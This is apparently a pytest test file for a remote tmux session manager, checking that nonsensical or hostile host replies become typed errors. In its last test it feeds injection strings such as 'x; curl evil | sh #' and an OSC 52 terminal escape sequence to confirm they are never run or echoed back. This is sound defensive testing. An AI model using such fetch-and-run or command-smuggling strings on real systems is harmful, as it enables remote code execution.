"""What a host may answer: a reply of the wrong form is one typed error, whatever it contains."""

import contextlib
import random
from collections.abc import Callable

import pytest

from trainsh_base.errors import MissingProgram, TrainError
from trainsh_base.remote.target import Target
from trainsh_base.tool.peer import PeerLost
from trainsh_tmux.remote.host import Host, resolve
from trainsh_tmux.session import holds, listing, opening
from trainsh_tmux.session.live import Live, log_end
from trainsh_tmux.session.registry import Registry
from trainsh_tmux.step import step_status
from trainsh_tmux.wait.conditions import heard
from trainsh_tmux.wait.patience import Patience

WORDS = (
    "fresh", "open", "end", "none", "again", "lost", "session", "step", "command", "gone", "failed", "quiet", "yes",
    "root", "elsewhere", "released", "-", "1", "0", "-1", "99999999999999999999", "1e9", "²", "٣", "", " ", "\x1b[2J",
    "\x9b31m", "\udc80", "\x00", "x" * 5000, "running", "ended", "train-j", "w", "s1", "no", "12.5", "0x1F", "777",
)  # fmt: skip


class Liar(Host):
    """A host whose answers the test chooses."""

    def __init__(self, lines: list[str]) -> None:
        self.spec = "liar"
        self.target = Target.local()
        self.root = self.machine = self.node = ""
        self.lines = lines

    def ask(self, body: str, **_: object) -> list[str]:
        return self.lines


def consumers(host: Liar) -> dict[str, Callable[[], object]]:
    live = Live(host, "j", "w")
    patience = Patience("file", "/x", 1.0, opening.current())
    first = host.lines[0] if host.lines else ""
    return {
        "log_end": lambda: log_end(host, "j", "w"), "must_exist": lambda: Registry().must_exist(live),
        "rows": lambda: listing.rows("liar", host.lines), "noted": lambda: step_status.noted(live, "s1"),
        "asked": lambda: step_status.asked(live, "s1"), "captured": lambda: step_status.read_captured(live, "s1"),
        "holds": lambda: holds.parse(host, ["w"], ["s1"], host.lines), "heard": lambda: heard(live, first, patience),
    }  # fmt: skip


@pytest.mark.parametrize("seed", range(40))
def test_a_reply_without_sense_is_a_typed_error(seed: int, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("trainsh_tmux.wait.failures.last_lines", lambda _live, _step: [])
    dice = random.Random(seed)
    for _ in range(50):
        lines = [" ".join(dice.choices(WORDS, k=dice.randint(0, 9))) for _ in range(dice.randint(0, 4))]
        for consume in consumers(Liar(lines)).values():
            with contextlib.suppress(TrainError):  # any other exception fails the test
                consume()


@pytest.mark.parametrize(
    ("line", "code"),
    [
        ("again 0 not-started no PATH", "not_started"), ("again none not-started its PATH has no cat", "not_started"),
        ("again lost", "lost"), ("again none", "lost"), ("again 0 hung-up", "lost"), ("again 3 ended", "session_ended"),
        ("again 0", "ok"), ("again 7", "failed"), ("again 130 timeout", "timeout"), ("again", "running"), ("never", "never"),
    ],
)  # fmt: skip
def test_nothing_is_ok_that_the_host_did_not_say_it_ran(line: str, code: str) -> None:
    assert step_status.asked(Live(Liar([line]), "j", "w"), "s1").state == code


def test_a_session_of_another_node_is_told() -> None:
    with pytest.raises(TrainError) as caught:
        step_status.asked(Live(Liar(["elsewhere login1"]), "j", "w"), "s1")
    assert caught.value.code == "other_node" and "login1" in caught.value.message


def test_a_train_host_that_was_killed_is_asked_again(monkeypatch: pytest.MonkeyPatch) -> None:
    """The end of train-host is not a failure of the step.

    It is imitated, because the real one cannot be killed at a known time.
    """
    answers: list[object] = [
        PeerLost("train-host was ended by signal 9"),
        {"name": "gpu", "kind": "ssh"},
    ]

    def call(*_: object, **__: object) -> object:
        answer = answers.pop(0)
        if isinstance(answer, Exception):
            raise answer
        return answer

    monkeypatch.setattr("trainsh_tmux.remote.host.call", call)
    assert resolve("gpu").name == "gpu" and not answers
    answers += [PeerLost("again")] * 3
    with pytest.raises(PeerLost):
        resolve("gpu")


def test_a_target_that_makes_no_sense_is_a_typed_error(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("trainsh_tmux.remote.host.call", lambda *_, **__: ["no", "target"])
    with pytest.raises(TrainError) as caught:
        resolve("gpu")
    assert caught.value.code == "bad_answer"


@pytest.mark.parametrize("said", ["x; curl evil | sh #", "apt-get install -y evil; evil", "evil", "\x1b]52;c;evil"])
@pytest.mark.parametrize("bootstrap", [False, True])
def test_what_a_host_says_of_its_package_manager_is_no_command(said: str, bootstrap: bool) -> None:
    with pytest.raises(MissingProgram) as caught:
        opening.open_session(Live(Liar(["no-tmux", f"install {said}"]), "j", "w"), "", bootstrap=bootstrap)
    assert caught.value.code == "no_tmux"
    assert "evil" not in f"{caught.value.hint} {caught.value.message} {caught.value.data}"
